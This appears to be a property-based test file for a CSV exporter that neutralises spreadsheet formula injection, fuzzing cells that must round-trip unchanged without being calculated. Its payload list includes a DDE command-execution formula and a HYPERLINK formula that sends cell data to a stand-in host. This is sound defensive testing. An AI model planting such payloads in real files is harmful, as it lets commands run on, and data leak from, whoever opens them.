import fc from 'fast-check';
import { expect, it } from 'vitest';
import { readCells, unguard } from '#bin/verify-export.mjs';
import { byteOrderMark, toCsvLine } from './csv.ts';

const nasty = [
  '=1+1',
  '+81',
  '-2+3',
  '@SUM(A1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  `=cmd|' /C calc'!A0`,
  '|x',
  '%x',
  "'",
  "''=1",
  '"',
  '""=1',
  ',',
  ';=1',
  'a,=1',
  'a\n=1',
  'a"\r\n"=1',
  '=HYPERLINK("https://example.test?"&A1)',
  '\u202e=1',
  '佐藤 花子',
  '',
];
const cell = fc.oneof(
  fc.constantFrom(...nasty),
  fc.string({ unit: 'binary', maxLength: 30 }).map((text) => text.toWellFormed()),
  fc.tuple(fc.constantFrom(...nasty), fc.string({ maxLength: 8 })).map(([one, other]) => one + other),
  fc
    .tuple(
      fc.string({ unit: fc.constantFrom(' ', '\t', '\n', '\r', '\u0000', '\u00a0', '\u3000'), maxLength: 3 }),
      fc.constantFrom(...nasty),
    )
    .map(([one, other]) => one + other),
);

/** What a spreadsheet that is given this cell would calculate. */
const formula = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠|%]/u;

it('an auditor’s spreadsheet calculates nothing of ten thousand hostile cells, and every one comes back as it was', async () => {
  let met = 0;
  await fc.assert(
    fc.asyncProperty(fc.array(cell, { minLength: 1, maxLength: 12 }), async (cells) => {
      const text = byteOrderMark + toCsvLine(cells);
      const lines = [];
      for await (const line of readCells([Buffer.from(text, 'utf8')])) lines.push(line);
      expect(lines).toHaveLength(1);
      const read: string[] = lines[0]?.cells ?? [];
      expect(read.map(unguard)).toEqual(cells);
      expect(read.filter((one) => formula.test(one))).toEqual([]);
      met += cells.length;
    }),
    { numRuns: 2_500, seed: 6 },
  );
  expect(met).toBeGreaterThan(10_000);
});

it('cells come back whatever pieces the file arrives in', async () => {
  await fc.assert(
    fc.asyncProperty(
      fc.array(cell, { minLength: 1, maxLength: 6 }),
      fc.integer({ min: 1, max: 7 }),
      async (cells, size) => {
        const bytes = Buffer.from(byteOrderMark + toCsvLine(cells) + toCsvLine(cells), 'utf8');
        const pieces = Array.from({ length: Math.ceil(bytes.length / size) }, (_, index) =>
          bytes.subarray(index * size, (index + 1) * size),
        );
        const read = [];
        for await (const line of readCells(pieces)) read.push(line.cells.map(unguard));
        expect(read).toEqual([cells, cells]);
      },
    ),
    { numRuns: 300 },
  );
});
